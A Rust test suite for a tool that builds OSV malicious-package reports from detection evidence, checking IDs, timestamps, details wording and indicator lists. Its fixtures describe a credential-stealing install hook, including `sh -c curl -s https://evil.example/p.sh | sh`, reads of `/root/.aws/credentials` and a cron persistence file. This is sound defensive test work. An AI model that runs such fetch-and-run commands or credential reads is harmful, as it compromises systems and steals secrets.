//! Reports built from verdicts and their evidence: valid OSV, accepted by
//! the database's rules, with details and indicators that come from the
//! evidence.

mod support;

use chrono::TimeZone;
use paddock_osv::{names, report, Input, OsvConfig};
use paddock_proto::ecosystem::ALL;
use paddock_proto::v1::{Ecosystem, Verdict};
use serde_json::Value;
use support::*;

fn json(r: &paddock_osv::Report) -> Value {
    serde_json::from_str(&r.to_json()).unwrap()
}

#[test]
fn every_ecosystem_gets_an_accepted_report_with_and_without_dynamic_results() {
    for eco in ALL {
        let name = sample_name(eco);
        let e = Evidence3::new(eco, name, "1.0.1", "1.0.0");
        let verdict_only = Input::verdict(&e.verdict);
        for input in [e.full(), e.static_only(), verdict_only] {
            let r = report(&input, &OsvConfig::default(), t(10));
            let v = json(&r);
            assert_accepted(&v);
            let osv_eco = names::osv_ecosystem(eco).unwrap();
            assert_eq!(
                v["summary"],
                format!("Malicious code in {name} ({osv_eco})")
            );
            assert_eq!(v["schema_version"], "1.7.4");
            assert_eq!(v["affected"].as_array().unwrap().len(), 1);
            assert_eq!(v["affected"][0]["package"]["ecosystem"], osv_eco);
            assert_eq!(
                v["affected"][0]["package"]["name"], name,
                "registry spelling kept"
            );
            assert_eq!(v["affected"][0]["versions"], serde_json::json!(["1.0.1"]));
            assert!(
                v["affected"][0].get("ranges").is_none(),
                "explicit versions only"
            );
            assert_eq!(v["credits"][0]["type"], "FINDER");
            assert_eq!(v["credits"][0]["name"], "Paddock");
            assert!(v.get("references").is_none(), "no report URL configured");
            assert!(v["database_specific"]
                .get("malicious-packages-origins")
                .is_none());
            let id = v["id"].as_str().unwrap();
            let hex = id.strip_prefix("MAL-0000-paddock-").unwrap();
            assert!(
                hex.len() == 16 && hex.bytes().all(|b| b.is_ascii_hexdigit()),
                "{id}"
            );
            assert_eq!(
                v["database_specific"]["paddock"]["origin_id"],
                format!("PDK-{hex}")
            );
            assert_eq!(r.file_name(), format!("{id}.json"));
            let details = v["details"].as_str().unwrap();
            let sentences = details.matches(". ").count() + 1;
            assert!(
                (2..=4).contains(&sentences),
                "{sentences} sentences: {details}"
            );
        }
    }
}

#[test]
fn timestamps_are_utc_to_the_second() {
    let now = chrono::Utc
        .with_ymd_and_hms(2026, 11, 22, 10, 1, 2)
        .unwrap()
        + chrono::Duration::nanoseconds(123_456_789);
    let v = json(&full_report(Ecosystem::Npm, "1.0.1", "1.0.0", now));
    assert_eq!(v["modified"], "2026-11-22T10:01:02Z");
    assert_eq!(v["published"], "2026-11-22T10:01:02Z");
    assert_eq!(
        v["database_specific"]["paddock"]["modified"],
        "2026-11-22T10:01:02Z"
    );
    assert!(v.get("withdrawn").is_none());
}

#[test]
fn ids_depend_on_the_package_and_the_first_publication_only() {
    let a = full_report(Ecosystem::Pypi, "1.0.1", "1.0.0", t(10));
    let b = full_report(Ecosystem::Pypi, "2.0.0", "", t(10));
    assert_eq!(a.id, b.id, "another release of the same package, same time");
    let later = full_report(Ecosystem::Pypi, "1.0.1", "1.0.0", t(11));
    assert_ne!(a.id, later.id, "a new detection");
    let e = Evidence3::new(Ecosystem::Pypi, "evil_pkg.name", "1.0.1", "");
    let renamed = report(&e.full(), &OsvConfig::default(), t(10));
    assert_eq!(
        renamed.id, a.id,
        "PEP 503 spellings of one project are one package"
    );
    let other = Evidence3::new(Ecosystem::Pypi, "another", "1.0.1", "");
    assert_ne!(report(&other.full(), &OsvConfig::default(), t(10)).id, a.id);
}

#[test]
fn details_say_what_it_does_how_it_runs_and_what_is_new() {
    let r = full_report(Ecosystem::Npm, "1.0.1", "1.0.0", t(10));
    let d = &r.details;
    for expected in [
        "The package reads credentials (`/root/.aws/credentials`) and sends them over the network (it contacts evil.example and c2.evil.example), and runs commands (`sh -c curl -s https://evil.example/p.sh | sh`).",
        "This happens when the package is installed (its postinstall hook).",
        "New in 1.0.1 since 1.0.0: writes to `/etc/cron.d/evil`, writes to a temporary file, connections to `evil.example:443` and one more change.",
    ] {
        assert!(d.contains(expected), "missing {expected:?} in: {d}");
    }
    assert!(
        !d.contains("old.example"),
        "removed behaviour is not news: {d}"
    );
    assert!(
        !d.contains("npm install"),
        "the harness is not the package: {d}"
    );
}

#[test]
fn details_differ_with_the_evidence() {
    // A miner found by static analysis only, in code an import runs.
    let mut e = Evidence3::new(Ecosystem::Pypi, "minerpkg", "0.1.0", "");
    e.verdict.reasons = vec![paddock_proto::v1::Reason {
        source: "finding".into(),
        code: "threat.cryptominer".into(),
        description: "runs a cryptocurrency miner".into(),
        weight: 60.0,
        severity: paddock_proto::v1::Severity::High.into(),
    }];
    let f = &mut e.static_result.findings[0];
    f.rule_id = "threat.cryptominer".into();
    f.reachability = paddock_proto::v1::Reachability::Import.into();
    e.static_result.metadata = None;
    let r = report(&e.static_only(), &OsvConfig::default(), t(10));
    assert!(
        r.details
            .starts_with("The package runs a cryptocurrency miner (`index.js`)."),
        "{}",
        r.details
    );
    assert!(
        r.details.contains("This happens when it is imported."),
        "{}",
        r.details
    );
    assert!(
        !r.details.contains("New in"),
        "no previous release: {}",
        r.details
    );

    // The same release seen in the sandbox, compared with nothing.
    let e = Evidence3::new(Ecosystem::Npm, "x", "1.0.0", "");
    let with_dynamic = report(
        &Input {
            change: None,
            ..e.full()
        },
        &OsvConfig::default(),
        t(10),
    );
    assert!(
        !with_dynamic.details.contains("New in"),
        "{}",
        with_dynamic.details
    );
    assert_ne!(r.details, with_dynamic.details);
}

#[test]
fn a_verdict_without_evidence_still_gets_an_honest_text() {
    let verdict = Verdict {
        package: Some(package(Ecosystem::Rubygems, "quiet", "1.0.0")),
        severity: paddock_proto::v1::Severity::High.into(),
        score: 55.0,
        ..Default::default()
    };
    let r = report(&Input::verdict(&verdict), &OsvConfig::default(), t(10));
    assert_accepted(&json(&r));
    assert!(r.details.contains("quiet 1.0.0"), "{}", r.details);
    assert_eq!(
        r.details,
        "Paddock rates quiet 1.0.0 high on its evidence: no single behaviour stands out. \
         What triggers it is not known: the analyses' results were not at hand."
    );
    assert!(r.database_specific.iocs.is_empty());
}

#[test]
fn indicators_come_from_the_evidence_and_leave_out_the_sandbox() {
    let r = full_report(Ecosystem::Npm, "1.0.1", "1.0.0", t(10));
    let iocs = &r.database_specific.iocs;
    assert_eq!(iocs.domains, ["evil.example", "c2.evil.example"]);
    assert_eq!(iocs.ips, ["203.0.113.9"]);
    assert_eq!(
        iocs.urls,
        ["https://evil.example/collect"],
        "the query (planted secrets) is dropped"
    );
    let files: Vec<(&str, Option<&str>, paddock_osv::model::FileSource)> = iocs
        .files
        .iter()
        .map(|f| {
            (
                f.paths[0].as_str(),
                f.digests.as_ref().map(|d| d.sha256.as_str()),
                f.source,
            )
        })
        .collect();
    use paddock_osv::model::FileSource::*;
    assert_eq!(
        files,
        [
            ("/tmp/.x/payload.sh", Some(PAYLOAD_SHA), Dropped),
            ("/etc/cron.d/evil", None, Dropped),
            ("evil-1.0.1.tgz", Some(ARTIFACT_SHA), PackageArchive),
            ("index.js", Some(INDEX_SHA), PackageArchive),
        ]
    );
    assert_eq!(iocs.files[0].note, "written at install (120 bytes)");
    assert_eq!(
        iocs.files[1].note,
        "written at install; not written by 1.0.0"
    );
    let text = r.to_json();
    for absent in [
        "github.com",
        "127.0.0.1",
        "10.231.0.1",
        "10.232.",
        "unreached.example",
        "/app/node_modules",
    ] {
        assert!(!text.contains(absent), "{absent} leaked into the report");
    }
}

#[test]
fn configured_hosts_are_not_indicators() {
    let e = Evidence3::new(Ecosystem::Npm, "x", "1.0.1", "1.0.0");
    let config = OsvConfig {
        ignore_domains: vec!["EVIL.example.".into()],
        ..OsvConfig::default()
    };
    let r = report(&e.full(), &config, t(10));
    assert_eq!(r.database_specific.iocs.domains, ["c2.evil.example"]);
    assert_eq!(
        r.database_specific.iocs.urls,
        ["https://evil.example/collect"],
        "a URL with a path on an ignored host still counts"
    );
}

#[test]
fn indicator_lists_are_capped() {
    let mut e = Evidence3::new(Ecosystem::Npm, "x", "1.0.1", "1.0.0");
    let phase = &mut e.dynamic.phases[0];
    for i in 0..500 {
        phase.dns.push(paddock_proto::v1::DnsQuery {
            hostname: format!("h{i}.tunnel.example"),
            ..Default::default()
        });
    }
    let config = OsvConfig {
        max_iocs: 10,
        ..OsvConfig::default()
    };
    let r = report(&e.full(), &config, t(10));
    assert_eq!(r.database_specific.iocs.domains.len(), 10);
    assert_accepted(&json(&r));
}

#[test]
fn a_report_reference_only_when_configured() {
    let e = Evidence3::new(Ecosystem::Npm, "@evil/pkg", "1.0.1", "1.0.0");
    let config = OsvConfig {
        report_url: Some("https://paddock.example/r/{ecosystem}/{name}/{version}".into()),
        contact: vec!["mailto:security@paddock.example".into()],
        ..OsvConfig::default()
    };
    config.validate().unwrap();
    let r = report(&e.full(), &config, t(10));
    let v = json(&r);
    assert_accepted(&v);
    assert_eq!(v["references"][0]["type"], "REPORT");
    assert_eq!(
        v["references"][0]["url"],
        "https://paddock.example/r/npm/@evil%2Fpkg/1.0.1"
    );
    assert_eq!(
        v["credits"][0]["contact"][0],
        "mailto:security@paddock.example"
    );
    assert_eq!(
        v["database_specific"]["paddock"]["versions"][0]["report_url"],
        "https://paddock.example/r/npm/@evil%2Fpkg/1.0.1"
    );
}

#[test]
fn the_verdict_is_kept_nested_where_the_database_keeps_it() {
    let v = json(&full_report(Ecosystem::CratesIo, "0.2.0", "0.1.0", t(10)));
    let meta = &v["database_specific"]["paddock"]["versions"][0];
    assert_eq!(meta["version"], "0.2.0");
    assert_eq!(meta["score"], 160.0);
    assert_eq!(meta["severity"], "critical");
    assert_eq!(meta["scoring_version"], "3");
    assert_eq!(meta["previous_version"], "0.1.0");
    let cwe = &v["affected"][0]["database_specific"]["cwes"][0];
    assert_eq!(cwe["cweId"], "CWE-506");
    assert_eq!(cwe["name"], "Embedded Malicious Code");
}

#[test]
fn a_report_reads_back_as_written() {
    let r = full_report(Ecosystem::Packagist, "1.0.1", "1.0.0", t(10));
    let back: paddock_osv::Report = serde_json::from_str(&r.to_json()).unwrap();
    assert_eq!(back, r);
}
